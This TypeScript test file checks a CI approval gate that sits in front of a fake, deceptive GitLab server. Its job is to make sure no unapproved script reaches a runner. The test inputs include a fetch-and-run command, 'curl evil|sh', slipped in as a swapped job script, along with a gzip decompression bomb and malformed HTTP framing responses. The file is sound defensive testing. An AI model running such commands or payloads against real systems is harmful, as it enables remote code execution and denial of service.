/** A GitLab that lies, or somebody in between: whatever it answers, nothing that was not approved reaches the runner. */

import type { AddressInfo } from 'node:net';
import { createServer, type Server, type Socket } from 'node:net';
import { gzipSync } from 'node:zlib';
import { afterEach, describe, expect, it } from 'vitest';
import { fixture, poll, until } from '../support/gate.ts';
import { type GateScene, gateScenes } from '../support/gate-scene.ts';

const scene = gateScenes();
const servers: { server: Server; sockets: Set<Socket> }[] = [];
afterEach(async () => {
  for (const { server, sockets } of servers.splice(0)) {
    for (const socket of sockets) socket.destroy();
    await new Promise((resolve) => server.close(resolve));
  }
});

/** Answers every request with these bytes, or what they are at that moment. */
async function liar(answer: (text: string) => string | Buffer): Promise<{ url: string; seen: string[] }> {
  const sockets = new Set<Socket>();
  const seen: string[] = [];
  const server = createServer((socket) => {
    sockets.add(socket);
    socket.on('error', () => {});
    socket.on('data', (part) => {
      const text = part.toString('latin1');
      seen.push(text);
      socket.write(answer(text));
    });
  });
  servers.push({ server, sockets });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen };
}

const http = (status: string, body: string | Buffer, headers = ''): Buffer =>
  Buffer.concat([
    Buffer.from(
      `HTTP/1.1 ${status}\r\nContent-Type: application/json\r\n${headers}Content-Length: ${Buffer.byteLength(body)}\r\n\r\n`,
    ),
    Buffer.from(body),
  ]);
const isPoll = (text: string): boolean => text.startsWith('POST /api/v4/jobs/request');
const job = (script: string): string => {
  const payload = JSON.parse(fixture('test-unit.run1')) as { steps: { script: string[] }[] };
  payload.steps[0]!.script = [script];
  return JSON.stringify(payload);
};
const ID = (JSON.parse(fixture('test-unit.run1')) as { id: number }).id;

/** A gate in front of a liar that answers polls like this and takes everything else. */
async function lied(answer: (n: number) => string | Buffer): Promise<{ one: GateScene; seen: string[] }> {
  let n = 0;
  const { url, seen } = await liar((text) => {
    if (isPoll(text)) return answer(n++);
    return text.startsWith('PATCH')
      ? http('202 Accepted', '', 'Range: 0-500\r\nJob-Status: running\r\n')
      : http('200 OK', '200', 'Job-Status: running\r\n');
  });
  return { one: await scene({ gitlabUrl: url }), seen };
}
const ask = (one: GateScene) => poll(one.gate.port, one.token);
const waits = (one: GateScene) =>
  until('the job to wait', () =>
    [...one.gate.gatekeeper.holds.values()].some(({ state }) => state === 'waiting_for_approval'),
  );

const noted = (one: GateScene) =>
  until('the note', () => one.gate.log.lines.some(({ message }) => message === 'a note was written'));

describe('a job under another status or in another form', () => {
  it.each([
    ['200', http('200 OK', job('id'))],
    ['202', http('202 Accepted', job('id'))],
    ['206', http('206 Partial Content', job('id'))],
    ['299', http('299 Odd', job('id'))],
    ['201 compressed', http('201 Created', gzipSync(job('id')), 'Content-Encoding: gzip\r\n')],
    [
      '201 as text/html',
      Buffer.from(http('201 Created', job('id')).toString().replace('application/json', 'text/html')),
    ],
    [
      '201 behind a 103',
      Buffer.concat([Buffer.from('HTTP/1.1 103 Early Hints\r\nLink: x\r\n\r\n'), http('201 Created', job('id'))]),
    ],
  ])('T3 T30 %s: is gated like any', async (_, answer) => {
    const { one } = await lied(() => answer);
    expect((await ask(one)).status).toBe(204);
    await waits(one);
  });

  it.each([
    ['trailing data', http('201 Created', `${job('id')}{"id":1,"token":"x"}`)],
    ['two documents in a list', http('201 Created', `[${job('id')},${job('id')}]`)],
    ['a name twice', http('201 Created', job('id').replace('"token":', '"token":"glcbt-x","token":'))],
    ['another encoding', http('201 Created', Buffer.from(job('id'), 'utf16le'))],
    ['an encoding that is not read here', http('201 Created', job('id'), 'Content-Encoding: br\r\n')],
    ['two encodings', http('201 Created', gzipSync(gzipSync(job('id'))), 'Content-Encoding: gzip, gzip\r\n')],
    ['what only says that it is compressed', http('201 Created', job('id'), 'Content-Encoding: gzip\r\n')],
    ['a bomb', http('201 Created', gzipSync(Buffer.alloc(64 * 1024 * 1024)), 'Content-Encoding: gzip\r\n')],
    ['nothing', http('201 Created', '')],
    ['a number', http('201 Created', '7')],
    ['an id that is text', http('201 Created', job('id').replace(/"id":\d+/, '"id":"7"'))],
  ])('T3 T53 %s: reaches no runner', async (_, answer) => {
    const { one } = await lied(() => answer);
    const reply = await ask(one);
    expect([204, 502]).toContain(reply.status);
    expect(reply.body.toString()).not.toContain('script');
    expect(one.gate.gatekeeper.reports.map(({ event }) => event)).not.toContain('handed_out');
  });

  it.each([
    ['chunks that are none', 'HTTP/1.1 201 Created\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{"id":1'],
    ['a chunk without end', `HTTP/1.1 201 Created\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n{"id"\r\n-1\r\n`],
    ['two lengths', `HTTP/1.1 201 Created\r\nContent-Length: 2\r\nContent-Length: 9\r\n\r\n{}`],
    ['a length and chunks', `HTTP/1.1 201 Created\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`],
    ['no HTTP', '220 mail.example.net ESMTP\r\n'],
    ['a header that breaks a line', 'HTTP/1.1 201 Created\r\nX: a\nContent-Length: 0\r\n\r\n'],
  ])('T30 T40 %s: ends in 502, and the next poll is served', async (_, answer) => {
    const { one } = await lied((n) => (n === 0 ? answer : http('201 Created', job('id'))));
    expect((await ask(one)).status).toBe(502);
    expect((await ask(one)).status).toBe(204);
    await waits(one);
  });
});

describe('the same job in two shapes', () => {
  it('T13 T41 the id of an approved job with another script is never handed out', async () => {
    const { one } = await lied((n) => http('201 Created', job(n === 0 ? 'echo approved' : 'curl evil|sh')));
    expect((await ask(one)).status).toBe(204);
    await waits(one);
    expect((await ask(one)).status).toBe(204);
    await noted(one);
    const { digest } = one.gate.gatekeeper.holdOf(ID);
    await one.gate.gatekeeper.release(ID);
    const released = await ask(one);
    expect([released.status, released.body.toString().includes('echo approved')]).toEqual([201, true]);
    for (const reply of [released, await ask(one), await ask(one)]) expect(reply.body.toString()).not.toContain('evil');
    expect(one.gate.gatekeeper.holdOf(ID).digest).toBe(digest);
  });

  it('T13 the id of a job that passed a moment ago, with another script and over a restart, waits for its own approval', async () => {
    const { one } = await lied((n) => http('201 Created', job(n < 2 ? 'echo approved' : 'curl evil|sh')));
    expect((await ask(one)).status).toBe(204);
    await waits(one);
    one.gate.gatekeeper.approved.add(one.gate.gatekeeper.holdOf(ID).digest);
    await one.gate.gatekeeper.release(ID);
    const statuses = [(await ask(one)).status];
    one.gate = await one.gate.restart();
    for (let n = 0; n < 3; n++) {
      const reply = await ask(one);
      statuses.push(reply.status);
      expect(reply.body.toString()).not.toContain('evil');
    }
    expect(statuses.filter((status) => status === 201).length).toBeLessThanOrEqual(1);
  });

  it('T17 facts that contradict the payload fail the job: another environment than the one that GitLab deploys to', async () => {
    const { one } = await lied(() =>
      http('201 Created', JSON.stringify(JSON.parse(fixture('deploy-production.run1')))),
    );
    expect((await ask(one)).status).toBe(204);
    await until(
      'a verdict or a refusal',
      () => one.gate.gatekeeper.holds.size + one.gate.gatekeeper.reports.length > 0,
    );
    expect([...one.gate.gatekeeper.admitted].map(({ facts }) => facts.trigger.verified)).not.toContain('api');
  });
});

describe('answers to the small calls', () => {
  it('T42 a log size out of this world moves no offset out of what numbers can hold', async () => {
    const { url } = await liar((text) =>
      isPoll(text)
        ? http('201 Created', job('id'))
        : text.startsWith('PATCH')
          ? http('202 Accepted', '0-9', 'Range: 0-999999999999999999999\r\nJob-Status: running\r\n')
          : http('200 OK', '200', 'Job-Status: running\r\n'),
    );
    const one = await scene({ gitlabUrl: url });
    expect((await ask(one)).status).toBe(204);
    await waits(one);
    await until('the note', () => one.gate.log.lines.some(({ message }) => message === 'a note was written'));
    const { logBytes } = one.gate.log.lines.find(({ message }) => message === 'a note was written')!.fields;
    expect(Number(logBytes)).toBeLessThan(10_000);
  });

  it('T30 a state that nobody knows neither ends nor frees what waits', async () => {
    let beats = 0;
    const { url } = await liar((text) => {
      if (isPoll(text)) return http('201 Created', job('id'));
      if (text.startsWith('PUT')) beats++;
      return http('200 OK', '200', 'Job-Status: approved\r\n');
    });
    const one = await scene({ gitlabUrl: url });
    await ask(one);
    await waits(one);
    one.gate.clock.skip(120_000);
    // A second one comes only while the first was taken for a sign of life.
    await until('a heartbeat', () => beats > 0);
    one.gate.clock.skip(120_000);
    await until(
      'another heartbeat',
      () => beats > 1,
      () => beats,
    );
    expect(one.gate.gatekeeper.holdOf(ID).state).toBe('waiting_for_approval');
    expect(one.gate.agent.counts()).toEqual({ parked: 1 });
  });
});
